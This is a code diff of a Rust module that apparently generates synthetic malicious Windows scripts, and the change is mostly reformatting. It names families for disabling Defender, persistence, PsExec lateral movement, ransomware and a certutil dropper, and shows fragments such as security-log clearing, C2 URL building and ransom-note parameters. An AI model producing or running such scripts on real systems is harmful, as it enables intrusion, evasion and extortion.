@@ -7,13 +7,44 @@ use super::names::{self, fill, pick, R};
 use super::{Draft, Family};
 
 pub(crate) const FAMILIES: &[Family] = &[
-    Family { name: "av-firewall-disable", description: "A defence evasion script that disables Microsoft Defender and the Windows firewall", gen: av_disable },
-    Family { name: "scheduled-task-persistence", description: "A persistence script that hides a payload behind a scheduled task", gen: schtask },
-    Family { name: "registry-run-persistence", description: "A persistence script that registers a payload under a registry Run key", gen: run_key },
-    Family { name: "psexec-lateral-movement", description: "A lateral movement script that pushes a payload to other hosts with PsExec and WMIC", gen: psexec },
-    Family { name: "ransomware", description: "Ransomware that destroys backups, encrypts files and leaves a ransom note", gen: ransomware },
-    Family { name: "certutil-dropper", description: "A dropper that downloads and launches a second stage with living-off-the-land binaries", gen: dropper },
-    Family { name: "startup-folder-persistence", description: "A persistence script that plants a launcher in the Startup folder", gen: startup },
+    Family {
+        name: "av-firewall-disable",
+        description:
+            "A defence evasion script that disables Microsoft Defender and the Windows firewall",
+        gen: av_disable,
+    },
+    Family {
+        name: "scheduled-task-persistence",
+        description: "A persistence script that hides a payload behind a scheduled task",
+        gen: schtask,
+    },
+    Family {
+        name: "registry-run-persistence",
+        description: "A persistence script that registers a payload under a registry Run key",
+        gen: run_key,
+    },
+    Family {
+        name: "psexec-lateral-movement",
+        description:
+            "A lateral movement script that pushes a payload to other hosts with PsExec and WMIC",
+        gen: psexec,
+    },
+    Family {
+        name: "ransomware",
+        description: "Ransomware that destroys backups, encrypts files and leaves a ransom note",
+        gen: ransomware,
+    },
+    Family {
+        name: "certutil-dropper",
+        description:
+            "A dropper that downloads and launches a second stage with living-off-the-land binaries",
+        gen: dropper,
+    },
+    Family {
+        name: "startup-folder-persistence",
+        description: "A persistence script that plants a launcher in the Startup folder",
+        gen: startup,
+    },
 ];
 
 fn payload(r: &mut R) -> (String, String) {
@@ -63,7 +94,14 @@ wevtutil cl Security & wevtutil cl System & wevtutil cl "Windows PowerShell"
 
 fn schtask(r: &mut R) -> Draft {
     let (exe, name) = payload(r);
-    let task = format!("{}{}", pick(r, &["Microsoft\\Windows\\", "", "GoogleUpdateTask", "OneDrive "]), names::pascal(pick(r, &["updater", "telemetry", "sync", "maintenance"])));
+    let task = format!(
+        "{}{}",
+        pick(
+            r,
+            &["Microsoft\\Windows\\", "", "GoogleUpdateTask", "OneDrive "]
+        ),
+        names::pascal(pick(r, &["updater", "telemetry", "sync", "maintenance"]))
+    );
     let host = names::c2_host(r);
     let url = format!("http://{host}{}", names::url_path(r));
     let mins = r.random_range(5..60);
@@ -135,10 +173,22 @@ start "" /b "%BIN%"
 
 fn psexec(r: &mut R) -> Draft {
     let (exe, name) = payload(r);
-    let user = format!("{}\\{}", names::pascal(names::company(r)).to_uppercase(), names::user(r));
-    let pass = format!("{}{}!", names::pascal(names::word(r)), r.random_range(2000..2030));
+    let user = format!(
+        "{}\\{}",
+        names::pascal(names::company(r)).to_uppercase(),
+        names::user(r)
+    );
+    let pass = format!(
+        "{}{}!",
+        names::pascal(names::word(r)),
+        r.random_range(2000..2030)
+    );
     let subnet = names::private_ip(r);
-    let net: String = subnet.rsplitn(2, '.').nth(1).unwrap_or("10.0.0").to_string();
+    let net: String = subnet
+        .rsplitn(2, '.')
+        .nth(1)
+        .unwrap_or("10.0.0")
+        .to_string();
     let mut c = header(r, "deploy");
     c.push_str(&fill(
         r#"set "U=@USER@"
@@ -159,7 +209,13 @@ for /f %%h in (%TEMP%\hosts.txt) do (
 )
 del "%TEMP%\hosts.txt"
 "#,
-        &[("USER", &user), ("PASS", &pass), ("EXE", &exe), ("NET", &net), ("NAME", &name)],
+        &[
+            ("USER", &user),
+            ("PASS", &pass),
+            ("EXE", &exe),
+            ("NET", &net),
+            ("NAME", &name),
+        ],
     ));
     Draft {
         content: c,
@@ -183,7 +239,14 @@ del "%TEMP%\hosts.txt"
 
 fn ransomware(r: &mut R) -> Draft {
     let ext = format!(".{}", names::token(r, 5));
-    let email = format!("{}@{}", names::token(r, 8), pick(r, &["protonmail.com", "onionmail.org", "tutanota.com", "cock.li"]));
+    let email = format!(
+        "{}@{}",
+        names::token(r, 8),
+        pick(
+            r,
+            &["protonmail.com", "onionmail.org", "tutanota.com", "cock.li"]
+        )
+    );
     let btc = format!("bc1q{}", names::token(r, 38));
     let price = pick(r, &["0.5", "1.2", "2", "0.8"]);
     let mut c = header(r, "update");
